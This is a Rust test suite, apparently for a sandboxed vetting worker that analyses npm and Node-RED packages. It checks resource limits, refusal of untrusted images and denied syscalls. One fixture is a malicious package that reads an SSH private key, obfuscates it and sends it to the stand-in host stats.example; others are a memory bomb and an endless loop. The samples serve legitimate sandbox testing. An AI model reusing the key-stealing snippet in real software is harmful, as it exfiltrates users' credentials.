//! The vetting worker's walls: what is left to it, as root and without, and that it does its work behind them.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::chown;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use node_vetting::analysis::{About, Doing, Findings, Means, analyse};
use node_vetting::closure::Closure;
use node_vetting::engine::{Engine, Folder};
use node_vetting::exercise::{Fact, Profile, exercise};
use node_vetting::guest;
use node_vetting::package::Package;
use node_vetting::resolve::{Cache, Limits, Options, Platform, Resolver, Silent, Target};
use node_vetting::trace::End;
use node_vetting::vet;
use node_vetting::worker::{Client, WorkerError};
use npm::{Algorithm, Config, Hasher, Places};
use test_support::data::{binary, shared};

use crate::support::USER;

/// Runs something with the binary as the caller and, when that is root, as an ordinary user.
fn as_everybody(check: impl Fn(Command, Option<u32>)) {
    check(Command::new(binary()), None);
    if nix::unistd::geteuid().is_root() {
        let mut ordinary = Command::new(binary());
        ordinary.uid(USER).gid(USER);
        check(ordinary, Some(USER));
    }
}

/// The compiled image; made once on the machine.
fn image() -> PathBuf {
    let folder = Folder::open(&shared().join("vetting-engine")).expect("the folder of the engine");
    let client =
        npm::Client::new(Config::load(&Places::here().expect("places")).expect("npm's configuration"));
    tokio::runtime::Runtime::new()
        .expect("a runtime")
        .block_on(guest::recipe().image(&folder, &client.expect("a client")))
        .expect("an image")
}

/// A copy of the image that belongs to somebody.
fn lent(image: &Path, to: Option<u32>) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::Builder::new()
        .prefix("redhold-test-")
        .tempdir()
        .expect("a folder");
    let copy = folder.path().join("one.image");
    fs::copy(image, &copy).expect("a copy");
    if let Some(uid) = to {
        chown(&copy, Some(uid), Some(uid)).expect("given away");
        chown(folder.path(), Some(uid), Some(uid)).expect("given away");
    }
    (folder, copy)
}

/// A node that reads a key when it is loaded and sends it away in disguise.
fn thief() -> Closure {
    let manifest = r#"{"name":"thief","version":"1.0.0","node-red":{"nodes":{"thief":"thief.js"}}}"#;
    let code = "const key = require('fs').readFileSync('/home/operator/.ssh/id_ed25519', 'latin1');
        const disguised = Buffer.from(key).map((byte) => byte ^ 90).toString('base64url');
        require('https').get('https://stats.example/?' + disguised.slice(0, 400));
        module.exports = (RED) => RED.nodes.registerType('thief', function (config) { RED.nodes.createNode(this, config); });";
    let files = [("package.json", manifest), ("thief.js", code)];
    let files: BTreeMap<String, Bytes> = files
        .into_iter()
        .map(|(path, text)| (path.to_owned(), Bytes::from(text)))
        .collect();
    let package = Package::from_files(files, Hasher::new(Algorithm::Sha512).finish()).expect("a package");
    Closure::new(package, BTreeMap::new())
}

const CLIENT: Client = Client {
    patience: Duration::from_secs(300),
};

#[test]
fn a_worker_behind_its_walls_sees_what_anybody_sees() {
    let image = image();
    let here = exercise(
        &Engine::open(&image).expect("an engine"),
        &thief(),
        &Profile::default(),
    );
    let here = here.expect("observations");
    let flows = |fact: &Fact| matches!(fact, Fact::SecretDependent { act, configured: false } if act.contains("stats.example"));
    assert!(here.seen.iter().any(|seen| flows(&seen.fact)), "{:?}", here.seen);
    as_everybody(|mut command, owner| {
        let (_folder, image) = lent(&image, owner);
        command.args(["vet-worker", "exercise"]).arg(&image).env_clear();
        let there = CLIENT.exercise(command, &thief(), &Profile::default());
        assert_eq!(there.expect("observations"), here);
    });
}

#[test]
fn a_reader_behind_its_walls_reads_what_anybody_reads() {
    let deep = format!("eval('1');{}", "[".repeat(100_000));
    for closure in [thief(), loading(&deep), loading(&"f(x => x.then(".repeat(2000))] {
        let here = analyse(&closure, &BTreeMap::new());
        assert!(
            !here.sites.is_empty() || here.measured.unparsable == 1,
            "{here:?}"
        );
        as_everybody(|_, owner| {
            let there = read(&closure, owner, Means::default());
            assert_eq!(there.expect("findings"), here);
        });
    }
}

/// What a reader of this user says of a closure.
fn read(closure: &Closure, owner: Option<u32>, means: Means) -> Result<Findings, WorkerError> {
    let start = || {
        let mut command = Command::new(binary());
        if let Some(uid) = owner {
            command.uid(uid).gid(uid);
        }
        command.args(["vet-worker", "read"]).env_clear();
        Ok(command)
    };
    CLIENT.read(start, closure, &BTreeMap::new(), means)
}

/// One package with these files.
fn of_files(files: &[(&str, String)]) -> Closure {
    let manifest = r#"{"name":"odd","version":"1.0.0"}"#.to_owned();
    let files = [("package.json", manifest)]
        .into_iter()
        .chain(files.iter().cloned());
    let files = files.map(|(path, text)| (path.to_owned(), Bytes::from(text)));
    let package = Package::from_files(files.collect(), Hasher::new(Algorithm::Sha512).finish());
    Closure::new(package.expect("a package"), BTreeMap::new())
}

/// The stack is made small for this: the real one is deeper than all that is let through.
#[test]
fn a_reader_that_overflows_its_stack_names_the_file_and_is_a_refusal() {
    let closure = of_files(&[
        ("a.js", ";".repeat(100_000)),
        (
            "lib/deep.js",
            format!("a = {}{};", "[".repeat(2000), "]".repeat(2000)),
        ),
        ("z.js", "let a = 1;".to_owned()),
    ]);
    let small = Means {
        stack: 128 << 10,
        ..Means::default()
    };
    let broke = || {
        let error = read(&closure, None, small).expect_err("too deep");
        vet::broke(&closure, Doing::Reading, error).expect("a finding")
    };
    let finding = broke();
    let About::Broke { why, .. } = &finding.about else {
        panic!("{finding:?}")
    };
    assert!(why.contains("stack"), "{why}");
    assert_eq!(finding.site.file, "node_modules/odd/lib/deep.js");
    assert_eq!(finding.package, "odd@1.0.0");
    assert_eq!(finding, broke());
    // With what everybody has it is read.
    let findings = read(&closure, None, Means::default()).expect("findings");
    assert_eq!(findings.measured.unparsable, 0);
}

#[test]
fn sources_are_read_the_same_together_and_alone() {
    let source = "require('child_process').exec('ls');\n".repeat(2000);
    let closure = of_files(&[
        ("a.js", source.clone()),
        ("b.js", source.clone()),
        ("c.js", source),
    ]);
    let alone = Means {
        threads: 1,
        ..Means::default()
    };
    let together = read(&closure, None, Means::default()).expect("findings");
    assert_eq!(together, read(&closure, None, alone).expect("findings"));
}

#[test]
fn a_bomb_ends_in_the_worker_and_not_in_the_host() {
    let image = image();
    let manifest = r#"{"name":"bomb","version":"1.0.0","main":"bomb.js"}"#;
    let code = "const all = []; for (;;) all.push(new Uint8Array(1 << 20));";
    let files = [("package.json", manifest), ("bomb.js", code)];
    let files = files
        .into_iter()
        .map(|(path, text)| (path.to_owned(), Bytes::from(text)))
        .collect();
    let package = Package::from_files(files, Hasher::new(Algorithm::Sha512).finish()).expect("a package");
    let closure = Closure::new(package, BTreeMap::new());
    as_everybody(|mut command, owner| {
        let (_folder, image) = lent(&image, owner);
        command.args(["vet-worker", "exercise"]).arg(&image);
        let seen = CLIENT
            .exercise(command, &closure, &Profile::default())
            .expect("observations");
        let base = seen.base().expect("a run");
        assert_eq!(base.end, End::Spent("memory".to_owned()));
    });
}

/// A package with one file that is loaded.
fn loading(code: &str) -> Closure {
    let manifest = r#"{"name":"odd","version":"1.0.0","main":"odd.js"}"#;
    let files = [("package.json", manifest), ("odd.js", code)];
    let files = files
        .into_iter()
        .map(|(path, text)| (path.to_owned(), Bytes::from(text.to_owned())))
        .collect();
    let package = Package::from_files(files, Hasher::new(Algorithm::Sha512).finish()).expect("a package");
    Closure::new(package, BTreeMap::new())
}

#[test]
fn one_that_takes_too_long_is_ended() {
    let image = image();
    let endless = loading("for (;;);");
    let profile = |seconds| Profile {
        fuel: u64::MAX / 4,
        deadline: Duration::from_secs(seconds),
        ..Profile::default()
    };
    as_everybody(|mut command, owner| {
        let (_folder, image) = lent(&image, owner);
        command.args(["vet-worker", "exercise"]).arg(&image);
        // Its own deadline is an observation.
        let seen = CLIENT
            .exercise(command, &endless, &profile(2))
            .expect("observations");
        assert_eq!(seen.base().expect("a run").end, End::Spent("time".to_owned()));
    });
    as_everybody(|mut command, owner| {
        let (_folder, image) = lent(&image, owner);
        command.args(["vet-worker", "exercise"]).arg(&image);
        let impatient = Client {
            patience: Duration::from_secs(2),
        };
        let start = Instant::now();
        let error = impatient
            .exercise(command, &endless, &profile(1000))
            .expect_err("it is ended");
        assert!(matches!(error, WorkerError::Hung(_)), "{error}");
        assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
    });
}

/// Real packages, each in two processes with other seeds of hashing, at other times, in other surroundings.
#[test]
fn real_packages_replay_bit_for_bit() {
    let image = image();
    let client =
        npm::Client::new(Config::load(&Places::here().expect("places")).expect("npm's configuration"))
            .expect("a client");
    let options = Options {
        node: "24.11.1".parse().expect("a version"),
        npm: "11.19.1".parse().expect("a version"),
        before: None,
        platform: Platform::here(),
        all_platforms: false,
        full: false,
        online: true,
        limits: Limits::default(),
    };
    let resolver = Resolver::new(client, Some(Cache::at(&shared().join("vetting-cache"))), options);
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    for name in [
        "node-red-node-random@0.4.1",
        "node-red-contrib-cron-plus@1.5.7",
        "node-red-contrib-influxdb@0.7.0",
    ] {
        let target = Target::parse(name).expect("a package");
        let resolved = runtime.block_on(resolver.resolve(&target, Arc::new(Silent)));
        let closure = resolved.expect("a closure").closure;
        let run = |zone: &str, language: &str| {
            let mut command = Command::new(binary());
            command.args(["vet-worker", "exercise"]).arg(&image).env_clear();
            command.env("TZ", zone).env("LANG", language).current_dir("/");
            let seen = CLIENT.exercise(command, &closure, &Profile::default());
            seen.expect("observations")
        };
        let (one, other) = (run("Asia/Tokyo", "ja_JP.UTF-8"), run("America/Lima", "C"));
        assert_eq!(one.base().expect("a run").end, End::Done, "{name}");
        for (one, other) in one.runs.iter().zip(&other.runs) {
            assert_eq!(one, other, "{name}: {}", one.run);
        }
        assert_eq!(one, other, "{name}");
    }
}

#[test]
fn an_image_of_somebody_else_is_refused() {
    let image = image();
    let refused = |mut command: Command, image: &Path| {
        command.args(["vet-worker", "exercise"]).arg(image);
        let error = CLIENT
            .exercise(command, &thief(), &Profile::default())
            .expect_err("it is refused");
        let WorkerError::Died { said, .. } = &error else {
            panic!("{error}")
        };
        assert!(!said.trim().is_empty(), "{error}");
        said.clone()
    };
    let (folder, copy) = lent(&image, None);
    // A link leads wherever its maker wants, also later.
    let link = folder.path().join("link.image");
    std::os::unix::fs::symlink(&copy, &link).expect("a link");
    refused(Command::new(binary()), &link);
    if nix::unistd::geteuid().is_root() {
        let (_folder, theirs) = lent(&image, Some(USER));
        let said = refused(Command::new(binary()), &theirs);
        assert!(said.contains("must belong to user 0"), "{said}");
    }
    // What is no compiled image is refused by what reads it, and not run.
    fs::write(&copy, vec![0x7f; 1 << 20]).expect("written");
    refused(Command::new(binary()), &copy);
}

#[test]
fn an_image_that_others_could_have_written_is_refused() {
    let (folder, image) = lent(&image(), None);
    let mode = |mode| {
        fs::set_permissions(&image, std::os::unix::fs::PermissionsExt::from_mode(mode)).expect("a mode");
    };
    mode(0o666);
    let mut command = Command::new(binary());
    command.args(["vet-worker", "exercise"]).arg(&image);
    let error = CLIENT
        .exercise(command, &thief(), &Profile::default())
        .expect_err("it is refused");
    let WorkerError::Died { said, .. } = &error else {
        panic!("{error}")
    };
    assert!(said.contains("must belong to user"), "{said}");
    drop(folder);
}

#[test]
fn nothing_but_memory_and_threads_is_left() {
    as_everybody(|mut command, _| {
        let output = command
            .args(["probe", "vet-worker"])
            .output()
            .expect("the probe runs");
        let text = String::from_utf8(output.stdout).expect("text");
        let steps: BTreeMap<&str, &str> = text
            .lines()
            .filter_map(|line| line.split_once('\t'))
            .map(|(step, rest)| (step, rest.split('\t').next().unwrap_or_default()))
            .collect();
        assert_eq!(steps.get("close-in"), Some(&"0"), "{text}");
        assert_eq!(steps.get("thread"), Some(&"0"), "{text}");
        for step in [
            "read",
            "list",
            "write",
            "connect",
            "listen",
            "unix",
            "start",
            "signal",
            "namespace",
        ] {
            let errno = steps
                .get(step)
                .unwrap_or_else(|| panic!("{step} was not tried: {text}"));
            assert_ne!(*errno, "0", "{step}: {text}");
        }
        assert!(text.contains("memory\t0\ttrue"), "{text}");
    });
}
